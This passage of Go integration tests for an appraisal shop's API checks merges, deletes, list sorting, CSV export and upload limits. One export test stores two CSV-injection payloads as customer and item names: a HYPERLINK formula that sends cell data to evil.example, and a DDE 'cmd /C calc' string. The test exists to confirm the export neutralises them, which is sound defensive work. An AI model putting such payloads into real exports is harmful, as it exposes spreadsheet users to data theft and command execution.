		o := must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": i1["id"], "product_id": "2"}), 201)
		photo := upload(t, h, op, "item", i1["id"].(string))
		ver := func(m map[string]any) string { return fmt.Sprintf(`"%v"`, m["version"]) }

		if r := h.as(t, op, "DELETE", "/api/v1/customers/"+a["id"].(string), nil, "If-Match", ver(a)); r.status != 409 || r.json(t)["code"] != "customer.has_items" {
			t.Fatalf("removing a customer with items: %d %s", r.status, r.body)
		}
		if r := h.as(t, viewer, "POST", "/api/v1/customers/"+b["id"].(string)+"/merge", map[string]any{"into": a["id"], "version": b["version"]}); r.status != 403 {
			t.Fatalf("a viewer merges: %d", r.status)
		}
		if r := h.as(t, op, "POST", "/api/v1/customers/"+b["id"].(string)+"/merge", map[string]any{"into": a["id"], "version": b["version"]}); r.status != 204 {
			t.Fatalf("merge customers: %d %s", r.status, r.body)
		}
		if r := h.as(t, op, "GET", "/api/v1/customers/"+b["id"].(string), nil); r.status != 404 {
			t.Fatalf("the merged customer: %d", r.status)
		}
		if l := must(t, h.as(t, op, "GET", "/api/v1/items?customer_id="+a["id"].(string), nil), 200); l["total"].(float64) != 2 {
			t.Fatalf("the kept customer's items: %v", l["total"])
		}

		if r := h.as(t, op, "DELETE", "/api/v1/items/"+i1["id"].(string), nil, "If-Match", ver(i1)); r.status != 409 || r.json(t)["code"] != "item.has_orders" {
			t.Fatalf("removing an item with orders: %d %s", r.status, r.body)
		}
		other := item(must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "李女士"}), 201), "瓷瓶")
		if r := h.as(t, op, "POST", "/api/v1/items/"+i1["id"].(string)+"/merge", map[string]any{"into": other["id"], "version": i1["version"]}); r.status != 422 {
			t.Fatalf("merging into another customer's item: %d %s", r.status, r.body)
		}
		i3 := item(a, "玉镯（重复录入）")
		if r := h.as(t, op, "POST", "/api/v1/items/"+i1["id"].(string)+"/merge", map[string]any{"into": i3["id"], "version": i1["version"]}); r.status != 204 {
			t.Fatalf("merge items: %d %s", r.status, r.body)
		}
		if got := must(t, h.as(t, op, "GET", "/api/v1/orders/"+o["id"].(string), nil), 200); got["item_id"] != i3["id"] {
			t.Fatalf("the order's item after the merge: %v", got["item_id"])
		}
		files := must(t, h.as(t, op, "GET", "/api/v1/media?owner_type=item&owner_id="+i3["id"].(string), nil), 200)["items"].([]any)
		if len(files) != 1 || files[0].(map[string]any)["id"] != photo {
			t.Fatalf("the photos after the merge: %v", files)
		}
		if r := h.as(t, op, "GET", "/api/v1/items/"+i1["id"].(string), nil); r.status != 404 {
			t.Fatalf("the merged item: %d", r.status)
		}
		i2now := must(t, h.as(t, op, "GET", "/api/v1/items/"+i2["id"].(string), nil), 200)
		if r := h.as(t, op, "DELETE", "/api/v1/items/"+i2["id"].(string), nil, "If-Match", ver(i2now)); r.status != 204 {
			t.Fatalf("removing an item without orders: %d %s", r.status, r.body)
		}
	})
}

// TestListsSort: the customer, item and account lists sort on their allow-listed fields only.
func TestListsSort(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "oleg", appraisal.RoleOperator)
		for _, n := range []string{"b客户", "a客户", "c客户"} {
			must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": n}), 201)
		}
		names := func(q string) string {
			var out []string
			for _, c := range must(t, h.as(t, op, "GET", "/api/v1/customers?"+q, nil), 200)["items"].([]any) {
				out = append(out, c.(map[string]any)["name"].(string))
			}
			return strings.Join(out, " ")
		}
		if got := names("sort=name"); got != "a客户 b客户 c客户" {
			t.Errorf("by name: %s", got)
		}
		if got := names("sort=-name"); got != "c客户 b客户 a客户" {
			t.Errorf("by name, descending: %s", got)
		}
		if got := names(""); got != "c客户 a客户 b客户" {
			t.Errorf("default, newest first: %s", got)
		}
		if r := h.as(t, op, "GET", "/api/v1/customers?sort=phone_hash", nil); r.status != 422 {
			t.Errorf("sorting on a field not allowed: %d", r.status)
		}
		if r := h.as(t, op, "GET", "/api/v1/items?sort=-name", nil); r.status != 200 {
			t.Errorf("items by title: %d", r.status)
		}
	})
}

// TestEventListsSortByTime: the audit log, the login logs and the certificates list newest first,
// or oldest first when asked.
func TestEventListsSortByTime(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		for _, n := range []string{"第一", "第二"} {
			must(t, h.as(t, admin, "POST", "/api/v1/customers", map[string]any{"name": n}), 201)
		}
		first := func(q string) map[string]any {
			return must(t, h.as(t, admin, "GET", "/api/v1/audit-logs?action=customers.create&"+q, nil), 200)["items"].([]any)[0].(map[string]any)
		}
		newest, oldest := first(""), first("sort=time")
		if newest["id"] == oldest["id"] || newest["at"].(string) < oldest["at"].(string) {
			t.Fatalf("newest %v, oldest %v", newest, oldest)
		}
		for _, path := range []string{"/api/v1/admin/login-logs?sort=time", "/api/v1/auth/login-log?sort=-time", "/api/v1/certificates?sort=time"} {
			must(t, h.as(t, admin, "GET", path, nil), 200)
		}
		if r := h.as(t, admin, "GET", "/api/v1/audit-logs?sort=action", nil); r.status != 422 {
			t.Fatalf("sorting the audit log on a field: %d", r.status)
		}
	})
}

// TestExportCellsAreInert: what staff typed reaches the spreadsheet as text, never as a formula
// (CSV injection): a customer named like a HYPERLINK formula and an item titled like a DDE call.
func TestExportCellsAreInert(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "olga", appraisal.RoleOperator)
		name := `=HYPERLINK("http://evil.example/?d="&A1,"查看")`
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": name}), 201)
		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "2", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}), 201)
		must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": it["id"], "product_id": "2"}), 201)
		r := h.as(t, op, "GET", "/api/v1/orders/export.csv?item_id="+it["id"].(string), nil)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("export: %v %q", err, r.body)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
		if !slices.Contains(rows[1], "'"+name) {
			t.Errorf("the customer's name is not kept as text: %q", rows[1])
		}
	})
}

// TestUploadOverTheLimitNamesIt: a file over the size limit is refused before any byte is sent,
// and the refusal carries the limit, so the console can say it in words.
func TestUploadOverTheLimitNamesIt(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "limit-operator", appraisal.RoleOperator)
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "限额"}), 201)
		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "2", "title": "大文件"}), 201)
		r := h.as(t, op, "POST", "/api/v1/media/uploads", map[string]any{"owner_type": "item", "owner_id": it["id"],
			"kind": "video", "filename": "long.mp4", "content_type": "video/mp4", "size": int64(1) << 42})
		errs, _ := r.json(t)["errors"].([]any)
		if r.status != 422 || len(errs) != 1 {
			t.Fatalf("%d %s", r.status, r.body)
		}
		f := errs[0].(map[string]any)
		if f["field"] != "size" || f["code"] != "too_large" || f["limit"] == nil || f["limit"].(float64) <= 0 || f["limit"].(float64) >= 1<<42 {
			t.Fatalf("the refusal does not name the limit: %v", f)
		}
	})
}
